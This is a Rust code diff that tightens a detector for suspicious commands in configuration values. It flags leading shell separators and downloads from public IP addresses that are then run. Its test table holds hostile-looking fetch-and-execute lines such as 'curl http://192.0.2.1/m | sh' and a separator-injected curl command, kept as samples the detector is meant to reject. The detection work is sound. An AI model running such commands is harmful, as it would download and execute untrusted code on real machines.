@@ -95,7 +95,9 @@ pub fn takes_commands(value: &Value<'_>) -> bool {
         let name = folder.unwrap_or_default();
         json && !name.is_empty() && name.iter().all(u8::is_ascii_alphanumeric)
     };
-    let meant = script() || shell() || named();
+    // What starts with a separator goes on with what stands before it.
+    let breaks_out = matches!(text, [b';' | b'|' | b'&', ..]);
+    let meant = !breaks_out && (script() || shell() || named());
     meant && !spies(text) && !(runs_what_it_fetches(text) && fetches_by_number(text))
 }
 
@@ -113,24 +115,33 @@ fn runs_what_it_fetches(text: &[u8]) -> bool {
         .any(|word| memmem::find(text, word).is_some())
 }
 
-/// Tells a link to a machine of the internet by its number: what builds fetch has a name, or stands within
-/// their own network.
+/// Tells a machine of the internet by its number, in a link or as a fetching program is given it without a
+/// scheme: what builds fetch has a name, or stands within their own network.
 fn fetches_by_number(text: &[u8]) -> bool {
-    memmem::find_iter(text, b"://").any(|at| {
-        let host = &text[at + 3..];
-        let part = |b: &&u8| b.is_ascii_digit() || **b == b'.';
-        let host = &host[..host.iter().take_while(part).count()];
-        let address = std::str::from_utf8(host).unwrap_or_default().parse();
-        address.is_ok_and(|address: Ipv4Addr| {
-            // Those that carriers and clouds share, 100.64.0.0/10. Source: RFC 6598.
-            let [first, second, ..] = address.octets();
-            let is_shared = first == 100 && second & 0xc0 == 64;
-            !(is_shared
-                || address.is_private()
-                || address.is_loopback()
-                || address.is_link_local()
-                || address.is_unspecified())
-        })
+    let linked = || memmem::find_iter(text, b"://").any(|at| is_public(&text[at + 3..]));
+    let separates = |b: &u8| matches!(b, b';' | b'|' | b'&' | b'\n');
+    let fetches = |command: &[u8]| {
+        let mut words = command.split(u8::is_ascii_whitespace);
+        words.any(|word| matches!(word.rsplit(|b| *b == b'/').next(), Some(b"curl" | b"wget")))
+            && words.any(is_public)
+    };
+    linked() || text.split(separates).any(fetches)
+}
+
+/// Tells an address of the internet at the start of a text.
+fn is_public(text: &[u8]) -> bool {
+    let part = |b: &&u8| b.is_ascii_digit() || **b == b'.';
+    let host = &text[..text.iter().take_while(part).count()];
+    let address = std::str::from_utf8(host).unwrap_or_default().parse();
+    address.is_ok_and(|address: Ipv4Addr| {
+        // Those that carriers and clouds share, 100.64.0.0/10. Source: RFC 6598.
+        let [first, second, ..] = address.octets();
+        let is_shared = first == 100 && second & 0xc0 == 64;
+        !(is_shared
+            || address.is_private()
+            || address.is_loopback()
+            || address.is_link_local()
+            || address.is_unspecified())
     })
 }
 
@@ -188,6 +199,12 @@ mod tests {
         for (text, want) in [
             ("curl http://192.0.2.1/m | sh", false),
             ("wget http://192.0.2.1/m; ./m", false),
+            ("cd /tmp && wget 192.0.2.1/m -O m && sh m", false),
+            ("/usr/bin/curl -s 192.0.2.1:8000/m | sh", false),
+            ("; curl http://a.example/m | sh", false),
+            ("wget 10.0.0.7/m -O m && tar xf m", true),
+            ("curl https://get.a.example | sh", true),
+            ("pip install a==1.2.3.4 | tee log", true),
             ("curl --retry 3 http://203.0.113.9:8080/health", true),
             ("curl http://100.64.1.2/a | jq .", true),
         ] {
